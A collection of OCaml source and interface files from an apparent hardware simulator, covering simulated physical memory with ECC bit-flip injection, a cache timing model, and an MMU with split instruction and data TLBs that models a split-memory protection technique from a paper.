  let n = t.page_size in
  let words = n - (n land 7) in
  let rec go_words i =
    i >= words || (Bytes.get_int64_ne b i = 0L && go_words (i + 8))
  in
  let rec go_bytes i = i >= n || (Bytes.unsafe_get b i = '\000' && go_bytes (i + 1)) in
  go_words 0 && go_bytes words

let blit_to_bytes t ~frame dst =
  check t frame 0 t.page_size;
  if Bytes.length dst < t.page_size then invalid_arg "Phys.blit_to_bytes: dst too small";
  Bytes.blit t.frames.(frame) 0 dst 0 t.page_size

let blit_from_bytes t ~frame src ~len =
  check t frame 0 len;
  if len > Bytes.length src then invalid_arg "Phys.blit_from_bytes: len > src";
  Bytes.blit src 0 t.frames.(frame) 0 len

let copy_frame t ~src ~dst =
  check t src 0 t.page_size;
  check t dst 0 t.page_size;
  Bytes.blit t.frames.(src) 0 t.frames.(dst) 0 t.page_size

let addr t ~frame ~off = (frame * t.page_size) + off
let frame_of_addr t a = a / t.page_size
let off_of_addr t a = a mod t.page_size

(* Physical-address accessors for the MMU fast path: callers that already
   hold a packed paddr (frame * page_size + off) skip the (frame, off)
   tuple round-trip. *)
let read8_at t paddr = read8 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size)
let write8_at t paddr v = write8 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size) v
let read32_at t paddr = read32 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size)
let write32_at t paddr v = write32 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size) v
