(* Optional ECC model (lib/inject): a shadow copy of every frame plays the
   role of the SECDED check bits. Writes update both copies; reads compare
   against the shadow and correct-on-read (bumping [corrections] and firing
   [hook]), so a single injected bit flip behaves like a correctable DRAM
   error: invisible to the program, visible to the machine. [flip_bit] is
   the only writer that bypasses the shadow. *)
type ecc = {
  shadow : Bytes.t array;
  mutable corrections : int;
  mutable hook : (int -> unit) option;
}

type t = {
  page_size : int;
  frames : Bytes.t array;
  mutable ecc : ecc option;
  (* Write watch (lib/hw Bbcache): one flag byte per frame, set by
     [watch_frame] when derived state (a decoded block) was built from the
     frame's bytes. Every mutation path checks the flag and, when set,
     clears it and fires [write_watch] with the frame — so unwatched frames
     (all data traffic) pay a single byte compare per store, and the hook
     fires once per watched frame per dirtying burst. [flip_bit] bypasses
     the watch by design: it models a DRAM bit error, which only the ECC
     machinery may observe — consumers of the watch must not cache derived
     state from frames while ECC is enabled. *)
  watched : Bytes.t;
  mutable write_watch : (int -> unit) option;
}

let create ?(page_size = 4096) ~frames () =
  if frames <= 0 then invalid_arg "Phys.create: frames must be positive";
  {
    page_size;
    frames = Array.init frames (fun _ -> Bytes.make page_size '\000');
    ecc = None;
    watched = Bytes.make frames '\000';
    write_watch = None;
  }

let set_write_watch t hook = t.write_watch <- hook

let watch_frame t ~frame =
  if frame < 0 || frame >= Array.length t.frames then
    invalid_arg (Fmt.str "Phys.watch_frame: frame %d out of range" frame);
  Bytes.unsafe_set t.watched frame '\001'

let note_write t frame =
  if Bytes.unsafe_get t.watched frame <> '\000' then begin
    Bytes.unsafe_set t.watched frame '\000';
    match t.write_watch with None -> () | Some h -> h frame
  end

let page_size t = t.page_size
let frame_count t = Array.length t.frames

let check t frame off len =
  if frame < 0 || frame >= Array.length t.frames then
    invalid_arg (Fmt.str "Phys: frame %d out of range" frame);
  if off < 0 || off + len > t.page_size then
    invalid_arg (Fmt.str "Phys: offset %d+%d out of page" off len)

(* Correct-on-read: repair any primary/shadow mismatch in [off, off+len)
   from the shadow before the caller reads the primary bytes. *)
let scrub t frame off len =
  match t.ecc with
  | None -> ()
  | Some e ->
    let p = t.frames.(frame) and s = e.shadow.(frame) in
    for i = off to off + len - 1 do
      let good = Bytes.unsafe_get s i in
      if Bytes.unsafe_get p i <> good then begin
        Bytes.unsafe_set p i good;
        e.corrections <- e.corrections + 1;
        match e.hook with None -> () | Some h -> h ((frame * t.page_size) + i)
      end
    done

let read8 t ~frame ~off =
  check t frame off 1;
  scrub t frame off 1;
  Char.code (Bytes.get t.frames.(frame) off)

let write8 t ~frame ~off v =
  check t frame off 1;
  let c = Char.chr (v land 0xFF) in
  Bytes.set t.frames.(frame) off c;
  note_write t frame;
  match t.ecc with None -> () | Some e -> Bytes.set e.shadow.(frame) off c

let read32 t ~frame ~off =
  check t frame off 4;
  scrub t frame off 4;
  let b i = Char.code (Bytes.get t.frames.(frame) (off + i)) in
  b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24)

let write32 t ~frame ~off v =
  check t frame off 4;
  let set i x = Bytes.set t.frames.(frame) (off + i) (Char.chr (x land 0xFF)) in
  set 0 v;
  set 1 (v lsr 8);
  set 2 (v lsr 16);
  set 3 (v lsr 24);
  note_write t frame;
  match t.ecc with
  | None -> ()
  | Some e -> Bytes.blit t.frames.(frame) off e.shadow.(frame) off 4

let fill t ~frame byte =
  check t frame 0 t.page_size;
  Bytes.fill t.frames.(frame) 0 t.page_size (Char.chr (byte land 0xFF));
  note_write t frame;
  match t.ecc with
  | None -> ()
  | Some e -> Bytes.fill e.shadow.(frame) 0 t.page_size (Char.chr (byte land 0xFF))

let blit_from_string t ~frame ~off s =
  check t frame off (String.length s);
  Bytes.blit_string s 0 t.frames.(frame) off (String.length s);
  note_write t frame;
  match t.ecc with
  | None -> ()
  | Some e -> Bytes.blit_string s 0 e.shadow.(frame) off (String.length s)

let to_string t ~frame =
  check t frame 0 t.page_size;
  Bytes.to_string t.frames.(frame)

let is_zero_frame t ~frame =
  check t frame 0 t.page_size;
  let b = t.frames.(frame) in
  let n = t.page_size in
  let words = n - (n land 7) in
  let rec go_words i =
    i >= words || (Bytes.get_int64_ne b i = 0L && go_words (i + 8))
  in
  let rec go_bytes i = i >= n || (Bytes.unsafe_get b i = '\000' && go_bytes (i + 1)) in
  go_words 0 && go_bytes words

let blit_to_bytes t ~frame dst =
  check t frame 0 t.page_size;
  if Bytes.length dst < t.page_size then invalid_arg "Phys.blit_to_bytes: dst too small";
  Bytes.blit t.frames.(frame) 0 dst 0 t.page_size

let blit_from_bytes t ~frame src ~len =
  check t frame 0 len;
  if len > Bytes.length src then invalid_arg "Phys.blit_from_bytes: len > src";
  Bytes.blit src 0 t.frames.(frame) 0 len;
  note_write t frame;
  match t.ecc with None -> () | Some e -> Bytes.blit src 0 e.shadow.(frame) 0 len

(* The shadow copies the shadow, not the primary: a frame copied while it
   carries an uncorrected flip carries the pending correction along with it
   (the raw codeword was copied, error and all). *)
let copy_frame t ~src ~dst =
  check t src 0 t.page_size;
  check t dst 0 t.page_size;
  Bytes.blit t.frames.(src) 0 t.frames.(dst) 0 t.page_size;
  note_write t dst;
  match t.ecc with
  | None -> ()
  | Some e -> Bytes.blit e.shadow.(src) 0 e.shadow.(dst) 0 t.page_size

let enable_ecc t =
  t.ecc <-
    Some { shadow = Array.map Bytes.copy t.frames; corrections = 0; hook = None }

let disable_ecc t = t.ecc <- None
let ecc_enabled t = t.ecc <> None

let set_ecc_hook t hook =
  match t.ecc with
  | None -> invalid_arg "Phys.set_ecc_hook: ECC not enabled"
  | Some e -> e.hook <- hook

let ecc_corrections t = match t.ecc with None -> 0 | Some e -> e.corrections

let flip_bit t ~frame ~off ~bit =
  check t frame off 1;
  if bit < 0 || bit > 7 then invalid_arg "Phys.flip_bit: bit out of range";
  let v = Char.code (Bytes.get t.frames.(frame) off) lxor (1 lsl bit) in
  Bytes.set t.frames.(frame) off (Char.chr v)

let ecc_shadow_write8 t ~frame ~off v =
  check t frame off 1;
  match t.ecc with
  | None -> ()
  | Some e -> Bytes.set e.shadow.(frame) off (Char.chr (v land 0xFF))

let addr t ~frame ~off = (frame * t.page_size) + off
let frame_of_addr t a = a / t.page_size
let off_of_addr t a = a mod t.page_size

(* Physical-address accessors for the MMU fast path: callers that already
   hold a packed paddr (frame * page_size + off) skip the (frame, off)
   tuple round-trip. *)
let read8_at t paddr = read8 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size)
let write8_at t paddr v = write8 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size) v
let read32_at t paddr = read32 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size)
let write32_at t paddr v = write32 t ~frame:(paddr / t.page_size) ~off:(paddr mod t.page_size) v
