(** Simulated physical memory: an array of fixed-size page frames.

    Frames are identified by index; frame ownership and allocation policy
    belong to the kernel's frame allocator, not to this module. *)

type t

val create : ?page_size:int -> frames:int -> unit -> t
(** Fresh physical memory of [frames] zeroed frames (default 4 KiB pages). *)

val page_size : t -> int
val frame_count : t -> int

val read8 : t -> frame:int -> off:int -> int
val write8 : t -> frame:int -> off:int -> int -> unit
val read32 : t -> frame:int -> off:int -> int
(** Little-endian 32-bit read; [off] must leave 4 bytes in the page. *)

val write32 : t -> frame:int -> off:int -> int -> unit
val fill : t -> frame:int -> int -> unit
(** Fill an entire frame with one byte value. *)

val blit_from_string : t -> frame:int -> off:int -> string -> unit
val to_string : t -> frame:int -> string
(** Snapshot of a frame's contents. *)

val copy_frame : t -> src:int -> dst:int -> unit
(** Duplicate a frame — used when splitting a page into code/data copies. *)

val is_zero_frame : t -> frame:int -> bool
(** True when every byte of the frame is zero — lets serializers skip it. *)

val blit_to_bytes : t -> frame:int -> Bytes.t -> unit
(** Copy a whole frame into the first [page_size] bytes of a caller-owned
    buffer, avoiding the per-call allocation of {!to_string}. *)

val blit_from_bytes : t -> frame:int -> Bytes.t -> len:int -> unit
(** Overwrite the first [len] bytes of a frame from a caller-owned buffer. *)

(** {2 Write watch}

    Invalidation support for derived caches of frame contents (the decoded
    basic-block cache): {!watch_frame} flags a frame as backing derived
    state, and every mutation path ({!write8}, {!write32}, {!fill},
    {!blit_from_string}, {!blit_from_bytes}, and {!copy_frame}'s
    destination) that touches a flagged frame clears the flag and fires the
    watch hook with the frame index. Unflagged frames pay one byte compare
    per store; the hook fires once per flagged frame per dirtying burst
    (re-flag after rebuilding). {!flip_bit} deliberately bypasses the watch
    (it models a DRAM bit error below the write path), so derived caches
    must not be used while ECC fault injection is enabled. *)

val set_write_watch : t -> (int -> unit) option -> unit
val watch_frame : t -> frame:int -> unit

(** {2 ECC model}

    Fault-injection support (lib/inject): when enabled, a shadow copy of
    every frame stands in for SECDED check bits. All write paths update
    primary and shadow together; all read paths ({!read8}, {!read32} and
    their [_at] variants) compare the bytes about to be read against the
    shadow and silently correct the primary on mismatch — the behaviour of
    a correctable DRAM error. Raw exports ({!to_string}, {!blit_to_bytes},
    {!is_zero_frame}) deliberately bypass the check so snapshots and
    forensics see the flipped bytes as they sit in the array. Disabled by
    default: the off path costs one field load per access and allocates
    nothing. *)

val enable_ecc : t -> unit
(** Build the shadow from the current frame contents (current state becomes
    ground truth) and start checking reads. *)

val disable_ecc : t -> unit
val ecc_enabled : t -> bool

val set_ecc_hook : t -> (int -> unit) option -> unit
(** Callback fired with the packed physical address of every corrected
    byte, at the moment of correction. @raise Invalid_argument when ECC is
    not enabled. *)

val ecc_corrections : t -> int
(** Total bytes corrected since {!enable_ecc} (0 when disabled). *)

val flip_bit : t -> frame:int -> off:int -> bit:int -> unit
(** Flip one bit of the primary copy {e without} updating the shadow — the
    injected soft error. The next checked read of that byte detects and
    corrects it. Works (as a plain silent flip) when ECC is disabled. *)

val ecc_shadow_write8 : t -> frame:int -> off:int -> int -> unit
(** Overwrite one shadow byte without touching the primary. Snapshot
    restore uses this to re-mark still-pending injected flips after
    {!enable_ecc} rebuilt the shadow from already-flipped frames; no-op
    when ECC is disabled. *)

val addr : t -> frame:int -> off:int -> int
val frame_of_addr : t -> int -> int
val off_of_addr : t -> int -> int

val read8_at : t -> int -> int
(** [read8_at t paddr] reads the byte at a packed physical address
    ([frame * page_size + off], i.e. {!addr}) without a (frame, off)
    tuple. Used by the MMU fast path. *)

val write8_at : t -> int -> int -> unit
val read32_at : t -> int -> int
val write32_at : t -> int -> int -> unit
