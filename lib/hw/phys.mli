(** Simulated physical memory: an array of fixed-size page frames.

    Frames are identified by index; frame ownership and allocation policy
    belong to the kernel's frame allocator, not to this module. *)

type t

val create : ?page_size:int -> frames:int -> unit -> t
(** Fresh physical memory of [frames] zeroed frames (default 4 KiB pages). *)

val page_size : t -> int
val frame_count : t -> int

val read8 : t -> frame:int -> off:int -> int
val write8 : t -> frame:int -> off:int -> int -> unit
val read32 : t -> frame:int -> off:int -> int
(** Little-endian 32-bit read; [off] must leave 4 bytes in the page. *)

val write32 : t -> frame:int -> off:int -> int -> unit
val fill : t -> frame:int -> int -> unit
(** Fill an entire frame with one byte value. *)

val blit_from_string : t -> frame:int -> off:int -> string -> unit
val to_string : t -> frame:int -> string
(** Snapshot of a frame's contents. *)

val copy_frame : t -> src:int -> dst:int -> unit
(** Duplicate a frame — used when splitting a page into code/data copies. *)

val is_zero_frame : t -> frame:int -> bool
(** True when every byte of the frame is zero — lets serializers skip it. *)

val blit_to_bytes : t -> frame:int -> Bytes.t -> unit
(** Copy a whole frame into the first [page_size] bytes of a caller-owned
    buffer, avoiding the per-call allocation of {!to_string}. *)

val blit_from_bytes : t -> frame:int -> Bytes.t -> len:int -> unit
(** Overwrite the first [len] bytes of a frame from a caller-owned buffer. *)

val addr : t -> frame:int -> off:int -> int
val frame_of_addr : t -> int -> int
val off_of_addr : t -> int -> int

val read8_at : t -> int -> int
(** [read8_at t paddr] reads the byte at a packed physical address
    ([frame * page_size + off], i.e. {!addr}) without a (frame, off)
    tuple. Used by the MMU fast path. *)

val write8_at : t -> int -> int -> unit
val read32_at : t -> int -> int
val write32_at : t -> int -> int -> unit
