(** Direct-mapped cache timing model (physical-address indexed).

    Exists to give the paper's §4.2.4 observation real mechanics: writing a
    [ret] gadget onto a code page forces the coherency hardware to
    invalidate the instruction cache line and flush the pipeline, which is
    what made the ret-based ITLB load slower than single-stepping. The
    model tracks hits/misses/invalidations for timing only — no data is
    stored. *)

type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable invalidations : int;
  mutable flushes : int;
}

type t

val create : ?line_bits:int -> name:string -> lines:int -> unit -> t
(** [line_bits] = log2 of the line size (default 6 = 64-byte lines). *)

val name : t -> string
val stats : t -> stats

val access : t -> int -> bool
(** Touch a physical address; [true] = hit. Misses allocate. *)

val invalidate : t -> int -> bool
(** Drop the line covering the address; [true] if it was present. *)

val flush : t -> unit

val hit_rate : t -> float
(** [hits / (hits + misses)]; 0 before any access. *)

val hit_rate_opt : t -> float option
(** Like {!hit_rate} but [None] before any access, so renderers can show
    "no traffic" ([-]) instead of a meaningless 0%. *)

val pp_stats : Format.formatter -> t -> unit
