(** Memory-management unit: virtual-address translation through the split
    instruction/data TLBs, with a hardware pagetable walk on miss.

    Permission checks are performed against the {e cached} TLB entry on a
    hit and against the PTE on a miss, exactly as on x86. A permission
    violation on a miss does not fill the TLB. This is the property the
    split-memory technique exploits: a PTE can be restricted (supervisor)
    while a previously loaded user-accessible TLB entry keeps servicing
    accesses of one kind, routing fetches and data accesses to different
    physical frames. *)

type access = Exec_env.access = Fetch | Read | Write

val pp_access : Format.formatter -> access -> unit

type hw_pte = {
  frame : int;
  present : bool;
  writable : bool;
  user : bool;  (** accessible from user mode; false = supervisor-only *)
  nx : bool;  (** execute-disable (only enforced when NX is enabled) *)
}
(** The hardware's view of a pagetable entry — what a page walk returns. *)

type fill_mode =
  | Hardware_walk  (** x86: misses are resolved by the hardware page walker *)
  | Software_fill
      (** SPARC-style: misses trap to the OS, which loads the TLB directly
          (paper §4.7) *)

type fault_kind =
  | Not_present
  | Protection
  | Tlb_miss  (** software-fill mode only: the OS must load the TLB *)

type fault = { addr : int; access : access; kind : fault_kind; from_user : bool }

exception Page_fault of fault

val fault_kind_name : fault_kind -> string

val pp_fault : Format.formatter -> fault -> unit
(** The canonical fault formatter ([#PF addr=... access=... kind=...
    mode=...]). {!Cpu.pp_fault} and the kernel's trap pretty-printer route
    their page-fault arm through this, so every layer prints faults the
    same way. *)

type t

val create :
  ?itlb_capacity:int ->
  ?dtlb_capacity:int ->
  ?tlb_policy:Tlb.policy ->
  phys:Phys.t ->
  cost:Cost.t ->
  unit ->
  t
(** [tlb_policy] (default {!Tlb.Fifo}) selects the replacement policy for
    both TLBs — the profiler's eviction-policy experiments sweep it. *)

val phys : t -> Phys.t
val itlb : t -> Tlb.t
val dtlb : t -> Tlb.t
val cost : t -> Cost.t

val env : t -> Exec_env.t
(** The machine's execution environment — the hooks record shared with the
    CPU dispatch loop, created with the MMU and mutated in place by its
    owners (see {!Exec_env}). The profiler installs its sampling hook as
    [(Mmu.env mmu).Exec_env.sample <- Some h]. *)

val obs : t -> Obs.t
val set_obs : t -> Obs.t -> unit
(** Attach an observability sink (default {!Obs.null}). The MMU emits
    trace events and counters for walks, fills, soft fills, TLB flushes
    and faults when the sink is enabled. *)

val set_nx : t -> bool -> unit
(** Enable/disable execute-disable-bit enforcement (legacy x86 = off). *)

val nx_enabled : t -> bool
val set_fill_mode : t -> fill_mode -> unit
val fill_mode : t -> fill_mode

val load_tlb : t -> access -> Tlb.entry -> unit
(** Software TLB load from the OS miss handler (Software_fill mode): insert
    into the I- or D-TLB according to the faulting access. *)

val enable_caches : ?lines:int -> t -> unit
(** Attach the I/D cache timing model (off by default; used by the
    self-modifying-code coherency ablation). *)

val icache : t -> Cache.t option
val dcache : t -> Cache.t option

val kernel_code_write : t -> frame:int -> off:int -> int -> unit
(** Kernel byte store into a physical frame with coherency effects (icache
    invalidation + pipeline-flush penalty if the line was cached). *)

val reload_cr3 : t -> (int -> hw_pte option) -> unit
(** Load a new pagetable (the walk function) and flush both TLBs — what a
    context switch does. Clears any dual-pagetable configuration. *)

val reload_cr3_dual : t -> code:(int -> hw_pte option) -> data:(int -> hw_pte option) -> unit
(** The §3.3.1 hardware modification: two pagetable registers, CR3-C
    walked on instruction fetches and CR3-D on data accesses. *)

val flush_tlbs : t -> unit
val invlpg : t -> int -> unit
(** Invalidate one vpn in both TLBs (unless an installed {!set_invlpg_hook}
    swallows it). [flush_tlbs] is never suppressed. *)

val set_tlb_guard : t -> (access -> Tlb.entry -> bool) option -> unit
(** Install a TLB integrity guard (fault injection's detection hook): the
    guard sees every TLB {e hit} before permission checks and returns
    [false] to reject the cached entry as corrupted. A rejected entry is
    invalidated and the access retranslated, so the retry misses and
    refills (or faults) from the live pagetable — the resync path. The
    guard must not touch this MMU's TLBs itself. With no guard installed
    the hit path is unchanged and allocation-free. *)

val set_invlpg_hook : t -> (int -> bool) option -> unit
(** Install the missed-[invlpg] fault hook: called with the vpn of every
    {!invlpg}; returning [true] swallows the invalidation, leaving any
    cached entries stale. *)

val has_tlb_guard : t -> bool
(** A TLB integrity guard is currently installed. The scheduler consults
    this to force per-instruction dispatch: the guard must see every TLB
    hit individually, which the block dispatcher's batched fetch accounting
    would elide. *)

val translate : t -> from_user:bool -> access -> int -> int * int
(** [translate t ~from_user access vaddr] returns [(frame, offset)].
    @raise Page_fault on a missing or protection-violating translation. *)

val translate_result : t -> from_user:bool -> access -> int -> int
(** The non-raising, non-allocating fast path. The result is an unboxed
    variant packed into an [int]: a physical address is always [>= 0], so
    a non-negative result is the packed paddr ([frame * page_size + off],
    decodable with {!Phys.frame_of_addr}/{!Phys.off_of_addr}) and a
    negative result is a fault code whose kind {!fault_code_kind} recovers.
    On a fault the details are latched into pending-fault registers (the
    CR2 analogue) readable via {!pending_fault} — no [fault] record or
    exception is allocated. *)

val fault_code_kind : int -> fault_kind
(** Decode a negative {!translate_result} code. Raises [Invalid_argument]
    on anything that is not a fault code. *)

val pending_fault : t -> fault
(** Materialize the most recent fault from the pending registers. Only
    meaningful immediately after a negative {!translate_result} or a
    {!Pending_fault} raise; a later fault overwrites the registers. *)

exception Pending_fault
(** Constant (payload-free) exception raised by the [_fast] accessors so a
    faulting access unwinds without allocating. Catch it and call
    {!pending_fault} at the trap boundary. *)

val fetch8 : t -> from_user:bool -> int -> int
(** Instruction-side byte read (goes through the ITLB). *)

val read8 : t -> from_user:bool -> int -> int
val write8 : t -> from_user:bool -> int -> int -> unit
val read32 : t -> from_user:bool -> int -> int
val write32 : t -> from_user:bool -> int -> int -> unit

(** The fast-path access module: the CPU dispatch loop's accessors. One
    shared translation core holds the fault plumbing (a faulting access
    raises the constant {!Pending_fault} instead of allocating a
    [Page_fault] record); each accessor layers exactly its cache traffic
    over the physical access. 32-bit accesses that straddle a page
    boundary decay into four byte accesses, each with its own translation
    and fault point. *)
module Fast : sig
  val fetch8 : t -> from_user:bool -> int -> int
  (** Instruction-side byte read (ITLB + icache). *)

  val read8 : t -> from_user:bool -> int -> int
  val write8 : t -> from_user:bool -> int -> int -> unit
  val read32 : t -> from_user:bool -> int -> int
  val write32 : t -> from_user:bool -> int -> int -> unit
end

val fetch8_fast : t -> from_user:bool -> int -> int
(** Historical flat alias for {!Fast.fetch8} (likewise the four below). *)

val read8_fast : t -> from_user:bool -> int -> int
val write8_fast : t -> from_user:bool -> int -> int -> unit
val read32_fast : t -> from_user:bool -> int -> int
val write32_fast : t -> from_user:bool -> int -> int -> unit

val touch_icache : t -> int -> unit
(** Charge an icache access for packed paddr [pa] (no-op when the cache
    timing model is off). The block dispatcher replays this per fetched
    byte so cycle counts match the per-instruction interpreter exactly. *)

val touch_read : t -> int -> unit
(** Algorithm 1's DTLB load: user-mode read of one byte so the hardware
    walks the (temporarily unrestricted) PTE into the data-TLB. *)
